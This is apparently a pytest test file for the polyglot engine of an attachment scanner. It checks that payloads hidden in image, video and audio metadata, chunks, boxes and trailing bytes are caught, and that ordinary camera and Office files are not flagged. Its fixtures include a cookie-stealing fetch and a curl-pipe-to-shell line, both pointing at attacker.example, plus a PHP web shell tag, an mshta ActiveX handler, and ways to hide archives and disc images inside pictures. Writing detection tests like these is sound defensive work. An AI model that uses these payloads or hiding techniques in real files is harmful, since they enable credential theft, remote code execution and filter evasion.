"""Polyglot engine, issue 8: what hides inside the parts of a picture, a video or a recording
that readers skip; issue 9: what real cameras, recorders and Office put there is not flagged."""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib

import numpy as np
import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from attachguard import samples
from attachguard.codes import FindingCode
from attachguard.engines.base import Item, Result
from attachguard.engines.polyglot import PolyglotEngine
from attachguard.policy import Policy
from attachguard.registry import load_specs, route
from attachguard.report import FileType

TYPES = {
    "jpeg": FileType("jpeg", "image/jpeg", "image"),
    "png": FileType("png", "image/png", "image"),
    "gif": FileType("gif", "image/gif", "image"),
    "mp4": FileType("mp4", "video/mp4", "video"),
    "qt": FileType("qt", "video/quicktime", "video"),
    "heif": FileType("heif", "image/heic", "image"),
    "wav": FileType("wav", "audio/x-wav", "audio"),
    "zip": FileType("zip", "application/zip", "archive"),
}


def scan(policy: Policy, label: str, data: bytes) -> Result:
    return PolyglotEngine().scan(Item(f"file.{label}", data, TYPES[label]), policy.context())


def messages(result: Result) -> list[str]:
    assert all(f.code is FindingCode.POLYGLOT for f in result.findings), result.findings
    return [f.message for f in result.findings]


# --- payloads ---------------------------------------------------------------------------------


def program() -> bytes:
    dos = bytearray(64)
    dos[:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 64)
    return bytes(dos) + struct.pack("<4sHH", b"PE\0\0", 0x14C, 1) + bytes(240)


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("invoice.exe", program())
    return out.getvalue()


HTML = b"<html><body><script>fetch('https://attacker.example/?c='+document.cookie)</script>"
SCRIPT = b"#!/bin/sh\ncurl https://attacker.example/x | sh\n"


# --- JPEG -------------------------------------------------------------------------------------


def segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def jpeg(*segments: bytes, after_app0: bytes = b"", **options: object) -> bytes:
    out = io.BytesIO()
    samples.photo(160, 120, seed=4).save(out, "JPEG", **options)
    data = out.getvalue()
    app0 = 4 + int.from_bytes(data[4:6], "big")  # SOI, then JFIF's APP0
    return data[:2] + b"".join(segments) + data[2:app0] + after_app0 + data[app0:]


@pytest.mark.parametrize(
    ("segments", "expected"),
    [
        ([segment(0xFE, program())], "Windows program hidden in the comment segment"),
        ([segment(0xE9, HTML)], "HTML or script markup hidden in the APP9 segment"),
        ([segment(0xFE, SCRIPT)], "script hidden in the comment segment"),
        ([segment(0xFE, archive())], "ZIP archive hidden in the comment segment"),
        (
            [segment(0xE1, b"Exif\0\0II*\0" + bytes(40) + program())],
            "Windows program hidden in the APP1",
        ),
        (
            [segment(0xED, b"Photoshop 3.0\0" + b"Rar!\x1a\x07\x00" + bytes(30))],
            "RAR archive hidden in the APP13",
        ),
        ([segment(0xEF, b"\x7fELF\x02\x01\x01" + bytes(60))], "Linux program hidden in the APP15"),
    ],
)
def test_payloads_in_jpeg_segments(policy: Policy, segments: list[bytes], expected: str) -> None:
    found = messages(scan(policy, "jpeg", jpeg(*segments)))
    assert len(found) == 1 and found[0].startswith(expected), found
    assert found[0].endswith(" of the JPEG image")


def test_a_payload_between_segments(policy: Policy) -> None:
    # libjpeg skips stray bytes between segments ("extraneous bytes"), so can a payload hide there
    data = jpeg(after_app0=program())
    Image.open(io.BytesIO(data)).load()
    assert messages(scan(policy, "jpeg", data)) == [
        "Windows program hidden in the bytes between two segments of the JPEG image"
    ]


def test_a_zip_split_over_two_comments_is_found(policy: Policy) -> None:
    zipped = archive()
    cut = zipped.find(b"PK\x01\x02")  # local entry in one comment, directory in the next
    data = jpeg(segment(0xFE, zipped[:cut]), segment(0xFE, zipped[cut:]))
    assert messages(scan(policy, "jpeg", data)) == [
        "ZIP archive hidden in the comment segment of the JPEG image"
    ]


def xmp(body: bytes) -> bytes:
    return (
        b"http://ns.adobe.com/xap/1.0/\0<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?>"
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
        b'22-rdf-syntax-ns#"><rdf:Description ' + body + b"/></rdf:RDF></x:xmpmeta>"
        b"<?xpacket end='w'?>"
    )


def test_camera_metadata_is_not_a_payload(policy: Policy) -> None:
    thumbnail = jpeg(quality=30)
    photoshop = b"Photoshop 3.0\08BIM\x04\x0c\0\0" + struct.pack(">I", len(thumbnail)) + thumbnail
    data = jpeg(
        segment(0xE1, b"Exif\0\0MM\0*\0\0\0\x08" + bytes(20) + thumbnail),
        segment(0xE1, xmp(b'photoshop:Headline="A &lt;b&gt;bold&lt;/b&gt; claim"')),
        segment(0xE2, b"ICC_PROFILE\0\1\1" + bytes(range(256)) * 8),
        segment(0xE2, b"MPF\0II*\0" + bytes(60)),
        segment(0xED, photoshop),
        segment(0xEE, b"Adobe\0d\0\0\0\0\1"),
        segment(0xFE, b"Created with GIMP"),
    )
    assert scan(policy, "jpeg", data).findings == []


def test_many_realistic_photos_are_clean(policy: Policy) -> None:
    # Pictures whose compressed data holds "PK", "MZ" and "<" by chance: none is flagged (the
    # same check over 433 pictures, 313 MB, found nothing: see the module of formats.payloads).
    rng = np.random.default_rng(8)
    for i in range(8):
        noisy = Image.fromarray(rng.integers(0, 256, (240, 320, 3), dtype=np.uint8), "RGB")
        for quality in (35, 95):
            out = io.BytesIO()
            noisy.save(
                out, "JPEG", quality=quality, progressive=bool(i % 2), icc_profile=rng.bytes(3000)
            )
            assert scan(policy, "jpeg", out.getvalue()).findings == [], (i, quality)
        out = io.BytesIO()
        noisy.save(out, "PNG")
        assert scan(policy, "png", out.getvalue()).findings == [], i


# --- after the end: what Office and Ghostscript leave -----------------------------------------


@pytest.mark.parametrize(
    "tail",
    [
        b"\x69\x0f\x00",
        b"\x02\x01",
        b"\xff\xd9",
        b"\x79\x94\xa4",
        b"\x00" * 700 + b"\x0b\x4f",
        bytes(range(1, 17)),
        b"\x0f\x00\x1d\xf0" + bytes(range(13)),  # LibreOffice: 17 bytes of the next record
    ],
)
def test_a_few_leftover_bytes_after_the_end_are_tolerated(policy: Policy, tail: bytes) -> None:
    # Word pads docProps/thumbnail.jpeg to four bytes with leftovers; Ghostscript repeats EOI.
    assert scan(policy, "jpeg", jpeg() + tail).findings == []
    assert scan(policy, "png", png() + tail).findings == []


@pytest.mark.parametrize(
    ("tail", "what"),
    [
        (bytes(range(1, 26)), "25 bytes of data"),  # one more than the tolerance
        (b"MZ\x90\x00\x03", "Windows program"),
        (b"#!/bin/sh\nid\n", "script"),
        (b"<svg onload=x()>", "HTML or script markup"),
        (b"PK\x03\x04" + bytes(8), "ZIP archive"),
        (b"<?=system($_GET[0]);?>", "22 bytes of data"),  # a review's PHP short tag
        (b"<embed src=//h/x>", "17 bytes of data"),
    ],
)
def test_short_tails_that_look_like_something_are_reported(
    policy: Policy, tail: bytes, what: str
) -> None:
    assert messages(scan(policy, "jpeg", jpeg() + tail)) == [
        f"{what} hidden after the end of the JPEG image"
    ]


# --- PNG, GIF -----------------------------------------------------------------------------------


def png(info: PngInfo | None = None, chunks: bytes = b"") -> bytes:
    out = io.BytesIO()
    samples.photo(160, 120, seed=5).save(out, "PNG", pnginfo=info)
    data = out.getvalue()
    return data[:33] + chunks + data[33:]


def chunk(kind: bytes, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))
        + kind
        + payload
        + struct.pack(">I", zlib.crc32(kind + payload))
    )


@pytest.mark.parametrize(
    ("chunks", "expected"),
    [
        (chunk(b"prVt", archive()), "ZIP archive hidden in the 'prVt' chunk of the PNG image"),
        (chunk(b"tEXt", b"Comment\0" + program()), "Windows program hidden in the 'tEXt' chunk"),
        (
            chunk(b"zTXt", b"Comment\0\0" + zlib.compress(HTML)),
            "HTML or script markup hidden in the 'zTXt'",
        ),
        (
            chunk(b"iTXt", b"Comment\0\1\0en\0\0" + zlib.compress(SCRIPT)),
            "script hidden in the 'iTXt'",
        ),
        (
            chunk(b"iTXt", b"Comment\0\0\0en\0\0" + HTML),
            "HTML or script markup hidden in the 'iTXt'",
        ),
        (
            chunk(b"\x01\x02\x03\x04", program()),
            "Windows program hidden in the '\\x01\\x02\\x03\\x04' chunk",
        ),
    ],
)
def test_payloads_in_png_chunks(policy: Policy, chunks: bytes, expected: str) -> None:
    found = messages(scan(policy, "png", png(chunks=chunks)))
    assert len(found) == 1 and found[0].startswith(expected), found


def test_png_text_and_profiles_are_not_payloads(policy: Policy) -> None:
    info = PngInfo()
    info.add_text("Software", "Screenshot tool")
    info.add_text("Comment", "Order 4711 <b>urgent</b> " * 50, zip=True)
    info.add_itxt("XML:com.adobe.xmp", xmp(b'dc:title="x"').decode("latin-1"), zip=True)
    data = png(info, chunk(b"tIME", bytes(7)) + chunk(b"eXIf", b"MM\0*" + bytes(40)))
    assert scan(policy, "png", data).findings == []


def test_compressed_png_text_that_expands_without_end(policy: Policy) -> None:
    bomb = zlib.compress(bytes(9 << 20), 9)  # 9 MiB of zeros, past the 8 MiB inflated per file
    result = scan(policy, "png", png(chunks=chunk(b"zTXt", b"Comment\0\0" + bomb)))
    assert [f.code for f in result.findings] == [FindingCode.ARCHIVE_EXPANSION]
    assert "expands past 8,388,608 bytes" in result.findings[0].message


def gif(comment: bytes) -> bytes:
    frames = [Image.new("P", (24, 24), i) for i in range(2)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], comment=comment, loop=0)
    return out.getvalue()


def test_gif_extension_blocks(policy: Policy) -> None:
    assert scan(policy, "gif", gif(b"Made with love " * 40)).findings == []
    # 300 bytes of padding first: the program straddles two sub-blocks, found once joined
    found = messages(scan(policy, "gif", gif(b"x" * 250 + program())))
    assert found == ["Windows program hidden in the comment block of the GIF image"]


# --- ISO media ------------------------------------------------------------------------------


def box(kind: bytes, payload: bytes, size: int | None = None) -> bytes:
    return struct.pack(">I", 8 + len(payload) if size is None else size) + kind + payload


def video(*boxes: bytes, brand: bytes = b"isom", mdat: bytes | None = None) -> bytes:
    ftyp = box(b"ftyp", brand + b"\0\0\2\0" + brand + b"mp41")
    moov = box(b"moov", box(b"mvhd", bytes(100)) + box(b"udta", box(b"\xa9cmt", b"A <b>clip</b>")))
    media = box(b"mdat", np.random.default_rng(3).bytes(100_000)) if mdat is None else mdat
    return ftyp + b"".join(boxes) + moov + media


@pytest.mark.parametrize(
    ("label", "data", "expected"),
    [
        (
            "mp4",
            video(box(b"free", program())),
            "Windows program hidden in the 'free' box of the MP4 video",
        ),
        (
            "qt",
            video(box(b"skip", archive()), brand=b"qt  "),
            "ZIP archive hidden in the 'skip' box of the QuickTime video",
        ),
        ("mp4", video(box(b"abcd", HTML)), "HTML or script markup hidden in the 'abcd' box"),
        (
            "heif",
            video(box(b"uuid", bytes(16) + program()), brand=b"heic"),
            "Windows program hidden in the 'uuid' box of the HEIC image",
        ),
        ("mp4", video(box(b"wide", b"") + box(b"free", SCRIPT)), "script hidden in the 'free' box"),
        (
            "mp4",
            video(mdat=box(b"mdat", bytes(5000) + program(), size=0)),
            "Windows program hidden in the 'mdat' box",
        ),
        (
            "mp4",
            video(mdat=box(b"mdat", bytes(5000) + program(), size=1 << 30)),
            "Windows program hidden in the 'mdat' box",
        ),
        (
            "mp4",
            video(box(b"free", b"", size=0) + program()),
            "Windows program hidden in the 'free' box",
        ),
    ],
)
def test_payloads_in_media_boxes(policy: Policy, label: str, data: bytes, expected: str) -> None:
    found = messages(scan(policy, label, data))
    assert len(found) == 1 and found[0].startswith(expected), found


def test_ordinary_media_boxes_are_clean(policy: Policy) -> None:
    assert scan(policy, "mp4", video(box(b"free", bytes(2048)), box(b"wide", b""))).findings == []
    # Media data of a stated size is not searched, whatever it holds: only the decoder reads it.
    assert scan(policy, "mp4", video(mdat=box(b"mdat", bytes(100) + program()))).findings == []
    streamed = video(mdat=box(b"mdat", np.random.default_rng(4).bytes(300_000), size=0))
    assert scan(policy, "mp4", streamed).findings == []


# --- WAV --------------------------------------------------------------------------------------


def riff_chunk(kind: bytes, payload: bytes, size: int | None = None) -> bytes:
    declared = len(payload) if size is None else size
    return kind + struct.pack("<I", declared) + payload + b"\0" * (len(payload) & 1)


def wav(*chunks: bytes, riff_size: int | None = None, data_size: int | None = None) -> bytes:
    pcm = np.random.default_rng(6).normal(0, 3000, 40_000).astype("<i2").tobytes()
    fmt = riff_chunk(b"fmt ", struct.pack("<HHIIHH", 1, 1, 16000, 32000, 2, 16))
    body = b"WAVE" + fmt + riff_chunk(b"data", pcm, data_size) + b"".join(chunks)
    return b"RIFF" + struct.pack("<I", len(body) if riff_size is None else riff_size) + body


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (
            wav(riff_chunk(b"junk", program()), riff_size=0xFFFFFFFF),
            "Windows program hidden in the 'junk' chunk",
        ),
        (wav(riff_chunk(b"exe ", program())), "Windows program hidden in the 'exe ' chunk"),
        (
            wav(riff_chunk(b"LIST", b"INFOICMT" + struct.pack("<I", len(HTML)) + HTML)),
            "HTML or script markup hidden in the 'LIST' chunk",
        ),
        (wav(riff_chunk(b"cart", archive())), "ZIP archive hidden in the 'cart' chunk"),
        # the audio's size is a placeholder: what follows the sound is inside the "audio"
        (
            wav(program(), riff_size=0xFFFFFFFF, data_size=0xFFFFFFFF),
            "Windows program hidden in the 'data' chunk",
        ),
    ],
)
def test_payloads_in_wav_chunks(policy: Policy, data: bytes, expected: str) -> None:
    found = messages(scan(policy, "wav", data))
    assert len(found) == 1 and found[0].startswith(expected), found
    assert found[0].endswith("of the WAV audio")


def test_data_after_an_exact_riff_size_is_after_the_end(policy: Policy) -> None:
    data = wav()
    assert messages(scan(policy, "wav", data + program())) == [
        "Windows program hidden after the end of the WAV audio"
    ]


def test_broadcast_and_streamed_wavs_are_clean(policy: Policy) -> None:
    extensible = struct.pack("<HHIIHHHHI", 0xFFFE, 6, 48000, 48000 * 18, 18, 24, 22, 24, 0x3F)
    extensible += b"\x01\x00\x00\x00\x00\x00\x10\x00\x80\x00\x00\xaa\x00\x38\x9b\x71"
    pcm24 = np.random.default_rng(7).bytes(18 * 4000)
    body = b"WAVE" + b"".join(
        (
            riff_chunk(b"JUNK", bytes(28)),
            riff_chunk(b"fmt ", extensible),
            riff_chunk(b"fact", struct.pack("<I", 4000)),
            riff_chunk(
                b"bext", b"Interview room 2".ljust(256, b"\0") + b"Recorder".ljust(346, b"\0")
            ),
            riff_chunk(b"iXML", b'<?xml version="1.0"?><BWFXML><PROJECT>Calls</PROJECT></BWFXML>'),
            riff_chunk(b"data", pcm24),
            riff_chunk(b"cue ", struct.pack("<I", 0)),
            riff_chunk(b"LIST", b"INFOISFT" + struct.pack("<I", 8) + b"Recorder"),
            riff_chunk(b"PAD ", bytes(100)),
        )
    )
    broadcast = b"RIFF" + struct.pack("<I", len(body)) + body
    assert scan(policy, "wav", broadcast).findings == []
    for sizes in ((0xFFFFFFFF, 0xFFFFFFFF), (0, 0), (0xFFFFFFFF, None)):
        assert scan(policy, "wav", wav(riff_size=sizes[0], data_size=sizes[1])).findings == []


# --- routing: a picture Magika calls "zip" --------------------------------------------------------


def test_a_picture_called_zip_is_walked_as_the_picture(policy: Policy) -> None:
    assert "polyglot" in route(load_specs(), TYPES["zip"])
    picture = png()
    assert messages(scan(policy, "zip", picture + archive())) == [
        "ZIP archive hidden after the end of the PNG image"
    ]
    assert messages(scan(policy, "zip", jpeg(segment(0xFE, program())))) == [
        "Windows program hidden in the comment segment of the JPEG image"
    ]
    assert scan(policy, "zip", archive()).findings == []  # a real zip is the zip engine's


def test_a_motion_photo_box_that_claims_the_rest_of_the_file_hides_nothing(policy: Policy) -> None:
    # The appended video's last box claims to run past the end: what follows it is unexplained.
    main = jpeg(segment(0xE1, xmp(b'GCamera:MotionPhoto="1"')))
    clip = video(mdat=b"")
    lying = box(b"free", b"", size=1 << 30)
    result = scan(policy, "jpeg", main + clip + lying + archive())
    assert messages(result) == ["ZIP archive hidden after the end of the JPEG image"]
    assert [c.where for c in result.children] == [f"motion-photo video at offset {len(main)}"]


# --- archives inside media data, where 7-Zip opens them (red team 95) -------------------------


def seven_zip() -> bytes:
    tail = struct.pack("<QQI", 1234, 56, 0xDEADBEEF)
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(tail)) + tail


def mp4_with_mdat(payload: bytes) -> bytes:
    def box(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", 8 + len(body)) + kind + body

    ftyp = box(b"ftyp", b"isom" + struct.pack(">I", 512) + b"isomiso2mp41")
    moov = box(b"moov", box(b"mvhd", bytes(100)))
    noise = bytes(range(256)) * 40
    return ftyp + moov + box(b"mdat", noise + payload + noise) + box(b"mdat", noise * 8)


@pytest.mark.parametrize(
    ("payload", "what"), [(seven_zip(), "7-Zip archive"), (archive(), "ZIP archive")]
)
def test_an_archive_in_media_data_is_found(payload: bytes, what: str, policy: Policy) -> None:
    assert messages(scan(policy, "mp4", mp4_with_mdat(b""))) == []
    found = messages(scan(policy, "mp4", mp4_with_mdat(payload)))
    assert found == [f"{what} hidden inside the MP4 video"]


def test_a_7z_archive_in_a_jpegs_scan_is_found(policy: Policy) -> None:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (90, 120, 150)).save(out, "JPEG")
    data = out.getvalue()
    scan_start = data.index(b"\xff\xda")
    spiked = data[: scan_start + 40] + seven_zip() + data[scan_start + 40 :]
    assert messages(scan(policy, "jpeg", spiked)) == ["7-Zip archive hidden inside the JPEG image"]


def test_a_second_data_chunk_of_a_wav_is_searched(policy: Policy) -> None:
    # only the first data chunk is the sound a player plays (red team 97: a page in a second)
    def chunk(kind: bytes, body: bytes) -> bytes:
        return kind + struct.pack("<I", len(body)) + body + b"\x00" * (len(body) & 1)

    fmt = chunk(b"fmt ", struct.pack("<HHIIHH", 1, 1, 8000, 8000, 1, 8))
    page = b"<html><body><script>alert(1)</script></body></html>"
    body = b"WAVE" + fmt + chunk(b"data", bytes(800)) + chunk(b"data", page)
    wav = b"RIFF" + struct.pack("<I", len(body)) + body
    assert messages(scan(policy, "wav", wav)) == [
        "HTML or script markup hidden in the 'data' chunk of the WAV audio"
    ]


# --- what unzip, 7-Zip and mshta read where the walk did not look (red team 101) -------------


def oddly_built(zipped: bytes, base: int) -> bytes:
    """``zipped`` rebuilt to sit at offset ``base`` (offsets from the file's start) as unzip
    and 7-Zip still open it: local headers that say version 6.4, and a zip64 end record with
    16 bytes of extensible data, found through its locator's offset (APPNOTE 4.3.14)."""
    data = bytearray(zipped)
    at = data.find(b"PK\x03\x04")
    while at >= 0:
        data[at + 4 : at + 6] = struct.pack("<H", 0x40)
        at = data.find(b"PK\x03\x04", at + 4)
    end = data.rfind(b"PK\x05\x06")
    _, _, _, count, _, size, offset, _ = struct.unpack_from("<4s4H2LH", data, end)
    at = data.find(b"PK\x01\x02")
    while at >= 0:  # the directory's local header offsets, from the file's start
        struct.pack_into("<L", data, at + 42, base + struct.unpack_from("<L", data, at + 42)[0])
        at = data.find(b"PK\x01\x02", at + 4)
    record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 60, 45, 45, 0, 0, count, count, size,
                         base + offset) + bytes(16)  # fmt: skip
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, base + end, 1)
    classic = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 2**32 - 1, 2**32 - 1, 0)
    return bytes(data[:end]) + record + locator + classic


def test_a_zip_with_a_long_zip64_end_record_in_a_chunk_is_found(policy: Policy) -> None:
    hidden = chunk(b"prVt", oddly_built(archive(), 33 + 8))  # its data, after IHDR's chunk
    assert messages(scan(policy, "png", png(chunks=hidden))) == [
        "ZIP archive hidden in the 'prVt' chunk of the PNG image"
    ]
    assert scan(policy, "png", png(chunks=chunk(b"prVt", bytes(800)))).findings == []


def with_odd_versions(zipped: bytes, base: int) -> bytes:
    """``zipped`` with local headers that say version 6.4 and directory offsets from ``base``."""
    data = bytearray(zipped)
    for found in re.finditer(rb"PK\x03\x04", zipped):
        data[found.start() + 4 : found.start() + 6] = struct.pack("<H", 0x40)
    for found in re.finditer(rb"PK\x01\x02", zipped):
        (offset,) = struct.unpack_from("<L", data, found.start() + 42)
        struct.pack_into("<L", data, found.start() + 42, base + offset)
    end = zipped.rindex(b"PK\x05\x06")
    (offset,) = struct.unpack_from("<L", data, end + 16)
    struct.pack_into("<L", data, end + 16, base + offset)
    return bytes(data)


def test_a_zip_whose_end_record_follows_the_image_is_found(policy: Policy) -> None:
    # the entries and directory in a comment, the end record in the 22 bytes after the end of
    # the image (too few to report on their own): unzip opens the picture as the archive
    main = jpeg()
    zipped = with_odd_versions(archive(), 6)  # the comment's data begins at offset 6
    cut = zipped.rindex(b"PK\x05\x06")
    data = main[:2] + segment(0xFE, zipped[:cut]) + main[2:] + zipped[cut:]
    assert messages(scan(policy, "jpeg", data)) == [
        "ZIP archive hidden in the comment segment of the JPEG image"
    ]
    assert scan(policy, "jpeg", main + bytes(22)).findings == []


def motion_photo(video_box: bytes, brand: bytes) -> bytes:
    main = jpeg(segment(0xE1, xmp(b'GCamera:MotionPhoto="1"')))
    return main + video(video_box, brand=brand)


@pytest.mark.parametrize("brand", [b"mp42", b"xvid"])
def test_a_motion_photos_video_is_searched_whatever_its_brand(policy: Policy, brand: bytes) -> None:
    # Magika calls a video of an unknown brand "unknown", so no engine walks the child: the
    # main image's walk searches the video's boxes itself
    assert scan(policy, "jpeg", motion_photo(box(b"free", bytes(4000)), brand)).findings == []
    page = b'<hta:application/><img src="x" onerror="run()">'
    assert messages(scan(policy, "jpeg", motion_photo(box(b"free", page), brand))) == [
        "HTML or script markup hidden after the end of the JPEG image"
    ]
    zipped = messages(scan(policy, "jpeg", motion_photo(box(b"free", archive()), brand)))
    assert zipped == ["ZIP archive hidden after the end of the JPEG image"]


def test_an_iso_image_laid_over_a_picture_is_found(policy: Policy) -> None:
    # 7-Zip opens a file with "CD001" at 0x8001 as a disc image, whatever its extension; the
    # picture's first segments cover ISO 9660's system area and its volume descriptor
    descriptor = b"\x01CD001\x01" + bytes(2041)
    filler = segment(0xEA, bytes(0x8000 - 6) + descriptor + bytes(65_533 - 0x8000 + 4 - 2048 - 4))
    main = jpeg()
    plain = main[:2] + filler.replace(b"CD001", b"\0" * 5) + main[2:]
    hostile = main[:2] + filler + main[2:]
    assert hostile.index(b"CD001") == 0x8001
    assert scan(policy, "jpeg", plain).findings == []
    assert messages(scan(policy, "jpeg", hostile)) == [
        "ISO 9660 disc image laid over the JPEG image"
    ]
    assert scan(policy, "jpeg", hostile).findings[0].location == "offset 32768"


@pytest.mark.parametrize(
    "markup",
    [
        b"<img src=\"x\" onerror=\"new ActiveXObject('WScript.Shell').Run('calc')\">",
        b"<frameset onload=run()>",
        b'<hta:application windowstate="minimize"/>',
    ],
)
def test_markup_mshta_runs_is_found_in_a_comment(policy: Policy, markup: bytes) -> None:
    # mshta parses a picture as a page: an event handler on any tag runs, no <script> needed
    found = messages(scan(policy, "jpeg", jpeg(segment(0xFE, b"Holiday 2024 " + markup))))
    assert found == ["HTML or script markup hidden in the comment segment of the JPEG image"]
    benign = b"Holiday 2024 <3, taken on one=two settings, <b>bold</b>"
    assert scan(policy, "jpeg", jpeg(segment(0xFE, benign))).findings == []
